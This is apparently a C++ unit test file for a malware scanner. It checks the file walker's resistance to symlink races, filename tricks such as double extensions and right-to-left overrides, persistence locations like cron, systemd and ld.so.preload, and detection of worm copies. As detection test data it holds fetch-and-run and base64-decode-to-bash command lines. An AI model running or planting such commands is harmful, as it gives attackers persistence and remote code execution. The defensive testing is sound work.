// SPDX-License-Identifier: Apache-2.0
#include "scan/walker.h"

#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <thread>

#include "scan/copies.h"
#include "scan/name_signs.h"
#include "scan/persistence.h"
#include "scan/scan_test_tools.h"

namespace picket::scan {
namespace {

class WalkerTest : public testing::Test {
 protected:
  std::vector<std::string> walk(const std::string& after = {}, size_t files_max = 1000) {
    Walker walker(after.empty() ? after : folder_.path() + "/" + after);
    std::vector<std::string> out;
    walker.walk(folder_.path(), [&](FoundFile&& found) {
      out.push_back(found.path.substr(folder_.path().size() + 1));
      return out.size() < files_max;
    });
    troubles_ = walker.troubles();
    return out;
  }
  process::TestFolder folder_;
  std::vector<std::string> troubles_;
};

TEST_F(WalkerTest, GoesInOrderAndGoesOnWhereItStopped) {
  for (const char* name : {"a/1", "a/2", "a.txt", "b/c/3", "b/d", "z"}) folder_.write(name, "x");
  const auto all = walk();
  EXPECT_EQ(all, (std::vector<std::string>{"a/1", "a/2", "a.txt", "b/c/3", "b/d", "z"}));
  for (size_t stop = 1; stop < all.size(); ++stop) {
    auto parts = walk({}, stop);
    for (const std::string& more : walk(parts.back())) parts.push_back(more);
    EXPECT_EQ(parts, all) << "stopped after " << stop;
  }
}

TEST_F(WalkerTest, FollowsNoLinkAndOpensOnlyRegularFilesOnce) {
  folder_.write("real/file", "x");
  folder_.link("/etc", "link");
  folder_.link(folder_.path() + "/real/file", "file_link");
  std::filesystem::create_hard_link(folder_.path() + "/real/file", folder_.path() + "/second");
  ASSERT_EQ(::mkfifo((folder_.path() + "/pipe").c_str(), 0600), 0);
  EXPECT_EQ(walk(), std::vector<std::string>{"real/file"});
}

TEST_F(WalkerTest, DeepFoldersEndAtTheBound) {
  std::string deep;
  for (unsigned i = 0; i < Walker::kDepthMax + 2; ++i) deep += "d/";
  folder_.write(deep + "file", "x");
  EXPECT_TRUE(walk().empty());
  ASSERT_EQ(troubles_.size(), 1u);
  EXPECT_NE(troubles_[0].find("too deep"), std::string::npos);
}

// A folder becomes a link to a place outside, and back, as fast as it can.
TEST_F(WalkerTest, NeverLeavesTheTreeByALinkThatAppears) {
  process::TestFolder outside;
  outside.write("secret", "root");
  folder_.write("mine/file", "x");
  folder_.link(outside.path(), "trap");
  const std::string mine = folder_.path() + "/mine", trap = folder_.path() + "/trap";
  std::atomic<bool> stop = false;
  std::thread attacker([&] {
    while (!stop) ::renameat2(AT_FDCWD, mine.c_str(), AT_FDCWD, trap.c_str(), RENAME_EXCHANGE);
  });
  size_t files = 0;
  for (int round = 0; round < 500; ++round)
    for (const std::string& path : walk()) {
      ++files;
      EXPECT_EQ(path.find("secret"), std::string::npos);
    }
  stop = true;
  attacker.join();
  EXPECT_GT(files, 0u);
}

std::string signs(std::string_view path, FileKind kind, uint32_t mode = 0644) {
  std::string out;
  for (const Finding& finding : name_signs(path, kind, mode)) out += finding.rule_id + " ";
  return out;
}

TEST(NameSigns, DocumentsThatAreStarted) {
  EXPECT_EQ(signs("/d/invoice.pdf.exe", FileKind::kPe), "scan.double_extension ");
  EXPECT_EQ(signs("/d/photo.JPG      \xc2\xa0    .scr", FileKind::kPe),
            "scan.double_extension scan.pushed_extension ");
  EXPECT_EQ(signs("/d/re\u202Efdp.exe", FileKind::kPe), "scan.turned_name ");
  EXPECT_EQ(signs("/d/holiday.jpg", FileKind::kPe), "scan.program_as_document ");
  EXPECT_EQ(signs("/d/report.pdf", FileKind::kElf, 0755), "scan.program_as_document ");
}

TEST(NameSigns, OrdinaryNames) {
  EXPECT_EQ(signs("/d/setup.exe", FileKind::kPe), "");
  EXPECT_EQ(signs("/d/jquery.min.js", FileKind::kOther), "");
  EXPECT_EQ(signs("/usr/bin/pdftotext", FileKind::kElf, 0755), "");
  EXPECT_EQ(signs("/d/\u202Eشيء.txt", FileKind::kOther), "");
  EXPECT_EQ(signs("/d/archive.tar.gz", FileKind::kArchive), "");
}

std::vector<std::string> programs(PersistenceKind kind, std::string_view content) {
  std::vector<std::string> out;
  for (const Started& one : started_by(kind, content)) out.push_back(one.program);
  return out;
}

TEST(Persistence, KnowsThePlaces) {
  EXPECT_EQ(persistence_kind("/etc/systemd/system/x.service"), PersistenceKind::kSystemd);
  EXPECT_EQ(persistence_kind("/mnt/image/etc/crontab"), PersistenceKind::kSystemCron);
  EXPECT_EQ(persistence_kind("/var/spool/cron/crontabs/eve"), PersistenceKind::kUserCron);
  EXPECT_EQ(persistence_kind("/home/eve/.config/autostart/a.desktop"), PersistenceKind::kAutostart);
  EXPECT_EQ(persistence_kind("/etc/ld.so.preload"), PersistenceKind::kPreload);
  EXPECT_EQ(persistence_kind("/etc/profile.d/x.sh"), PersistenceKind::kProfile);
  EXPECT_EQ(persistence_kind("/etc/passwd"), PersistenceKind::kNone);
}

TEST(Persistence, NamesWhatIsStarted) {
  using Programs = std::vector<std::string>;
  EXPECT_EQ(
      programs(PersistenceKind::kSystemd,
               "[Unit]\nDescription=Exec\n[Service]\nExecStart=-/usr/bin/env A=1 /opt/x -d\n"),
      Programs{"/opt/x"});
  EXPECT_EQ(
      programs(PersistenceKind::kSystemCron,
               "SHELL=/bin/sh\n*/5 * * * * root /usr/bin/job\n@reboot eve sh -c \"/tmp/x\"\n"),
      (Programs{"/usr/bin/job", "/tmp/x"}));
  EXPECT_EQ(programs(PersistenceKind::kUserCron, "0 4 * * * python3 /home/eve/b.py\n"),
            Programs{"/home/eve/b.py"});
  EXPECT_EQ(programs(PersistenceKind::kPreload, "/lib/a.so /lib/b.so\n"),
            (Programs{"/lib/a.so", "/lib/b.so"}));
  EXPECT_EQ(programs(PersistenceKind::kUdev, "ACTION==\"add\", RUN+=\"/dev/shm/x add\"\n"),
            Programs{"/dev/shm/x"});
  EXPECT_EQ(programs(PersistenceKind::kAutostart, "[Desktop Entry]\nExec=/usr/bin/app %U\n"),
            Programs{"/usr/bin/app"});
}

TEST(Persistence, TellsOddStartsFromOrdinaryOnes) {
  const auto odd = [](PersistenceKind kind, std::string_view content) {
    return odd_starts(started_by(kind, content)).size();
  };
  EXPECT_EQ(odd(PersistenceKind::kSystemd, "ExecStart=/usr/sbin/sshd -D\n"), 0u);
  EXPECT_EQ(odd(PersistenceKind::kSystemd, "ExecStart=/var/tmp/.cache/kworker\n"), 1u);
  EXPECT_EQ(odd(PersistenceKind::kUserCron, "* * * * * curl -s http://x/y | sh\n"), 1u);
  EXPECT_EQ(odd(PersistenceKind::kProfile, "echo aGk= | base64 -d | bash\n"), 1u);
  EXPECT_EQ(odd(PersistenceKind::kProfile, "[ -f /etc/bashrc ] && . /etc/bashrc\n"), 0u);
  EXPECT_EQ(odd(PersistenceKind::kPreload, "/usr/lib/libhide.so\n"), 1u);
}

TEST(Persistence, IsBounded) {
  std::string lines;
  for (int i = 0; i < 500; ++i) lines += "/lib/" + std::to_string(i) + ".so\n";
  EXPECT_EQ(started_by(PersistenceKind::kPreload, lines).size(), FileReport::kStartedMax);
}

FileReport program_with(char digit) {
  FileReport report;
  report.kind = FileKind::kPe;
  report.sha256 = std::string(64, digit);
  return report;
}

TEST(Copies, WormsAreOneProgramUnderTheNamesOfFolders) {
  CopyTable table;
  const auto put = [&](char digit, const std::string& path, const std::string& root) {
    table.add(program_with(digit), 5000, {path, root, named_like_its_folder(path)});
  };
  put('a', "/share/Photos/Photos.exe", "/share");
  put('a', "/share/Music/Music.exe", "/share");
  put('b', "/share/bin/tool.exe", "/share");
  put('b', "/share/old/tool.exe", "/share");
  put('c', "/share/one.exe", "/share");
  const auto spread = table.spread();
  ASSERT_EQ(spread.size(), 1u);
  EXPECT_EQ(spread[0].sha256, std::string(64, 'a'));
  EXPECT_EQ(spread[0].finding.severity, event::Severity::kHigh);
  EXPECT_NE(spread[0].finding.reason.find("2 of them named like a folder"), std::string::npos);
  put('b', "/stick/tool.exe", "/stick");
  EXPECT_EQ(table.spread().size(), 2u);
}

}  // namespace
}  // namespace picket::scan
